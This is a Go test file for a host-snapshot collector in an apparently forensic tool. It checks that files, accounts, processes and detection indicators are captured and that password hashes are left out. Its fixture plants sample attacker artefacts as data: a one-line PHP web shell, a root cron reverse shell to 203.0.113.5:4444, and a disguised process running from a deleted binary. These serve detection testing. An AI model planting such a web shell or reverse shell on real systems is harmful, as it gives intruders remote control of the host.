package capture

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/nowwhat/nowwhat/internal/base/fixture"
	"github.com/nowwhat/nowwhat/internal/base/hostfs"
	"github.com/nowwhat/nowwhat/internal/base/snapshot"
)

func TestTakeDebianFixture(t *testing.T) {
	host := fixture.Debian(t)
	host.Process(fixture.ProcessSpec{PID: 1, PPID: 0, Comm: "systemd", Exe: "/usr/lib/systemd/systemd", Cmdline: []string{"/sbin/init"}, Cwd: "/"})
	host.Process(fixture.ProcessSpec{PID: 4242, PPID: 1, UID: 33, Comm: "kworker/0:1", Exe: "/dev/shm/.x/k (deleted)", Cmdline: []string{"[kworker/0:1]"}, Cwd: "/tmp"})
	host.File("/proc/stat", "cpu  1 2 3 4\nbtime 1700000000\n", 0o444)
	host.File("/var/www/html/up.php", "<?php if(isset($_REQUEST['c'])){ system($_REQUEST['c']); } ?>", 0o644)
	host.File("/etc/cron.d/sync", "*/5 * * * * root bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n", 0o644)
	fsys, err := hostfs.Open(host.Dir)
	if err != nil {
		t.Fatal(err)
	}
	defer fsys.Close()
	out := filepath.Join(t.TempDir(), "s.snap")
	w, err := snapshot.Create(out)
	if err != nil {
		t.Fatal(err)
	}
	sum, err := Take(context.Background(), fsys, w, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if sum.Files == 0 || sum.Hashed == 0 || !sum.Live {
		t.Fatalf("summary %+v", sum)
	}
	r, err := snapshot.Open(out)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	for k, want := range map[string]string{"host.hostname": "web1", "host.machine_id": "0123456789abcdef0123456789abcdef", "tool": "nowwhat", "live": "true"} {
		if got := r.Meta(k); got != want {
			t.Errorf("meta %s = %q, want %q", k, got, want)
		}
	}
	if !strings.Contains(r.Meta("collectors"), "accounts") || !strings.Contains(r.Meta("collectors"), "files") {
		t.Errorf("collectors %q", r.Meta("collectors"))
	}
	// Every kind of state the fixture holds is in the snapshot.
	for table, where := range map[string]string{
		"files": "path = '/usr/bin/ls' AND sha256 != '' AND md5 = (SELECT digest FROM package_files WHERE path = '/usr/bin/ls')", "users": "name = 'alice' AND password = 'set'",
		"groups": "name = 'sudo'", "sudoers": "kind = 'grant'", "ssh_keys": "user = 'alice'",
		"ssh_options": "key = 'PermitRootLogin'", "jobs": "kind = 'cron'", "services": "name = 'ssh.service' AND state = 'enabled'",
		"hooks": "kind = 'pam'", "packages": "name = 'coreutils'", "package_files": "path = '/usr/bin/ls'",
		"processes": "pid = 4242 AND exe_deleted = 1", "contents": "path = '/etc/ssh/sshd_config'",
		"indicators": "(path = '/var/www/html/up.php' AND category = 'webshell' AND severity = 'critical') OR (path = '/etc/cron.d/sync' AND category = 'reverse-shell')",
	} {
		var n int
		if err := r.DB().QueryRow("SELECT count(*) FROM " + table + " WHERE " + where).Scan(&n); err != nil || n == 0 {
			t.Errorf("%s WHERE %s: %d rows, %v", table, where, n, err)
		}
	}
	// No secret in clear: the shadow hash never appears anywhere in the file.
	data, _ := os.ReadFile(out)
	if strings.Contains(string(data), "rootsaltrootsalt") || strings.Contains(string(data), "alicesaltalicesa") {
		t.Error("a password hash is stored in the snapshot")
	}
}

func TestKeepContent(t *testing.T) {
	tests := map[string]bool{
		"/etc/crontab": true, "/etc/cron.d/x": true, "/etc/shadow": false, "/etc/ssh/ssh_host_ed25519_key": false,
		"/etc/ssh/sshd_config": true, "/root/.bashrc": true, "/home/alice/.profile": true, "/home/alice/.ssh/authorized_keys": true,
		"/home/alice/.ssh/id_rsa": false, "/etc/ssl/private/x.pem": false, "/usr/share/doc/x/README": false, "/etc/pam.d/sshd": true,
		"/home/alice/sub/.bashrc": false, "/etc/gshadow-": false,
	}
	for p, want := range tests {
		if got := KeepContent(p, 100); got != want {
			t.Errorf("KeepContent(%s) = %v, want %v", p, got, want)
		}
	}
	// Small files of the program folders are kept (a script's text tells what it does); the
	// programs themselves are not.
	if !KeepContent("/usr/sbin/policy-rc.d", 255) || KeepContent("/usr/bin/ls", 151344) || KeepContent("/usr/bin/x", 4<<10+1) {
		t.Error("KeepContent of the program folders: small texts kept, programs not")
	}
}
